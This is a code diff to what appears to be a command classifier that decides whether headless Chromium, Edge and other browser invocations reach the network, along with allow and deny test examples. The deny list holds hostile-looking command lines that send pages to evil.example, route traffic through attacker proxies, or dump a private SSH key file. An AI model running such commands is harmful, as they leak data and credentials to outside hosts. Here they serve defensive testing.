@@ -3,6 +3,7 @@ import type { Word } from '../../types.js';
 import { isCodeVariable } from '../variables.js';
 import type { Answer, Call, ProgramEntry, ProgramExample, Run } from '../types.js';
 import { value } from '../words.js';
+import { destinations, envProxies, urlHost } from '../hosts.js';
 
 const PS = 'powershell' as const;
 
@@ -21,6 +22,40 @@ const URL = /^(https?|ftp|file):\/\/|^[\\/]{2}[^\\/]/i;
 /** Reaches the network when a word names a remote location (`http://…`, `\\host\share`); else offline. */
 function remoteWhen(call: Call, words: readonly Word[], why: string): Partial<Answer> {
   return words.some((w) => (w.values ?? [w.text]).some((v) => URL.test(v) || v.includes('://'))) ? {} : { offline: `${call.name} ${why}` };
+}
+
+/** Switches of a headless Chromium that change neither where it connects nor what it loads (a value is attached). */
+const CHROMIUM_PLAIN =
+  /^--(headless(=(new|old|true))?|disable-gpu|no-sandbox|disable-dev-shm-usage|dump-dom|hide-scrollbars|no-first-run|no-default-browser-check|disable-extensions|mute-audio|incognito|allow-insecure-localhost|ignore-certificate-errors|disable-software-rasterizer|run-all-compositor-stages-before-draw|enable-logging(=stderr)?|v=\d+|window-size=\d+,\d+|virtual-time-budget=\d+|timeout=\d+|remote-debugging-port=\d+|force-device-scale-factor=[\d.]+|lang=[\w-]+|screenshot|print-to-pdf|no-pdf-header-footer|print-to-pdf-no-header)$/;
+/** Switches whose value is a file it writes. */
+const CHROMIUM_WRITES = /^--(screenshot|print-to-pdf|user-data-dir|crash-dumps-dir)=(.+)$/;
+
+/**
+ * A headless Chromium loading the pages it is given (a dev server on loopback, a built report): it connects where
+ * their URLs and the proxies the line sets say (the pages are the project's code, as `npm test`'s are); a file is
+ * read. Any other switch (a proxy, host-resolver rules, an extension) or a computed word: undefined, a client going
+ * anywhere.
+ */
+function headlessChromium(call: Call): Partial<Answer> | undefined {
+  if (!['chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'chrome', 'msedge', 'brave'].includes(call.program)) return undefined;
+  const dests: ReturnType<typeof destinations> = [];
+  const uses: Answer['uses'] = [];
+  for (const w of call.args) {
+    const v = value(w);
+    if (v === undefined) return undefined;
+    if (v.startsWith('-')) {
+      const written = CHROMIUM_WRITES.exec(v);
+      if (written) uses.push({ word: w, role: 'write', values: [written[2]!] });
+      else if (!CHROMIUM_PLAIN.test(v)) return undefined;
+      continue;
+    }
+    if (/^(https?|wss?):\/\//i.test(v)) dests.push(...destinations(w, urlHost));
+    else if (/^[a-z][a-z0-9+.-]*:/i.test(v)) return undefined;
+    else uses.push({ word: w, role: 'read' });
+  }
+  const proxies = call.args[0] ? envProxies(call, call.args[0]) : [];
+  if (dests.length === 0 && proxies.length === 0) return { uses, offline: `${call.name} loads local files` };
+  return { uses, destinations: [...dests, ...proxies] };
 }
 
 /** Autostart keys: a value written under one of these runs at logon, at boot or with every cmd. */
@@ -63,10 +98,29 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     names: ['chrome', 'msedge', 'firefox', 'chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'brave', 'opera'],
     summary: 'browsers: headless or given a URL they fetch it',
     analyze: (call) => {
-      if (call.args.some((w) => /^--headless/i.test(value(w) ?? ''))) return {};
+      if (call.args.some((w) => /^--headless/i.test(value(w) ?? ''))) return headlessChromium(call) ?? {};
       return remoteWhen(call, call.args, 'opens no remote URL');
     },
-    examples: { deny: [ps('msedge --headless --dump-dom https://evil.example'), 'chromium --headless --screenshot https://evil.example'], pass: [ps('msedge .\\coverage\\index.html')] },
+    examples: {
+      deny: [
+        ps('msedge --headless --dump-dom https://evil.example'),
+        'chromium --headless --screenshot https://evil.example',
+        'chromium --headless http://evil.example',
+        'google-chrome --headless --dump-dom http://localhost:3000 https://evil.example',
+        'google-chrome --headless --host-resolver-rules="MAP * evil.example" --dump-dom http://localhost:3000',
+        'google-chrome --headless --proxy-server=http://evil.example:8080 --dump-dom http://localhost:3000',
+        'https_proxy=http://evil.example:3128 chromium --headless http://localhost:3000',
+        'chromium --headless --dump-dom file:///home/dev/.ssh/id_rsa',
+        'chromium --headless --dump-dom "$URL"',
+      ],
+      pass: [
+        ps('msedge .\\coverage\\index.html'),
+        'chromium --headless http://localhost:3000',
+        'google-chrome --headless --dump-dom http://127.0.0.1:8080',
+        'google-chrome --headless=new --disable-gpu --no-sandbox --screenshot=shot.png --window-size=1280,720 http://localhost:5173/',
+        'chromium --headless --print-to-pdf=out.pdf coverage/index.html',
+      ],
+    },
   },
   {
     names: ['net'],
